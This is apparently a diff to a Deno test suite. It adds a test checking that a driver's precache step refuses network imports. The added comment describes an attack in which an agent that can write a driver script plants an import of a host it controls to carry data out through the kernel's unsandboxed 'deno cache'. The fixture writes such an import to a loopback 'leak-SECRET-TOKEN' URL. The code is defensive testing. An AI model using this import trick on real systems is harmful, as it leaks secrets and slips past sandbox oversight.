@@ -4,7 +4,7 @@
  * cold test gives the fake server a Deno cache of its own that starts empty.
  */
 import assert from "node:assert/strict";
-import { denoCacheArgv } from "../../drivers/deno_precache.ts";
+import { denoCacheArgv, precacheDenoDriver } from "../../drivers/deno_precache.ts";
 import type { DaemonClient } from "../../actors/client.ts";
 import {
   auditRows,
@@ -120,4 +120,44 @@ Deno.test("daemon: a driver whose modules cannot be cached fails with Deno's rea
       await killDaemonProcess(daemon);
     }
   });
+});
+
+// Attack: an agent that can write a Deno driver's script adds an import of a host it controls,
+// hoping the kernel's unsandboxed `deno cache` carries its data out. Deno's import allow-list
+// (no --allow-import on the driver line) must refuse the fetch before any byte leaves.
+Deno.test("precache: a driver script's import of a loopback host is refused, nothing is fetched", async () => {
+  const dir = await Deno.makeTempDir({ prefix: "ostk-precache-" });
+  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  const { port } = listener.addr as Deno.NetAddr;
+  let reached = false;
+  const accepting = (async () => {
+    for await (const conn of listener) {
+      reached = true;
+      conn.close();
+    }
+  })();
+  try {
+    await Deno.writeTextFile(
+      `${dir}/server.ts`,
+      `import "http://127.0.0.1:${port}/leak-SECRET-TOKEN.ts";\n`,
+    );
+    const entry = {
+      name: "evil",
+      kind: "mcp" as const,
+      command: [Deno.execPath(), "run", "--no-lock", `${dir}/server.ts`],
+      env: { DENO_DIR: `${dir}/cache` },
+      line: 1,
+    };
+    await assert.rejects(
+      precacheDenoDriver(entry, dir),
+      (e: Error) =>
+        /driver 'evil': caching its Deno modules/.test(e.message) &&
+        /import access/.test(e.message),
+    );
+    assert.equal(reached, false, "the kernel's deno cache connected to the agent's host");
+  } finally {
+    listener.close();
+    await accepting.catch(() => {/* closed */});
+    await Deno.remove(dir, { recursive: true });
+  }
 });
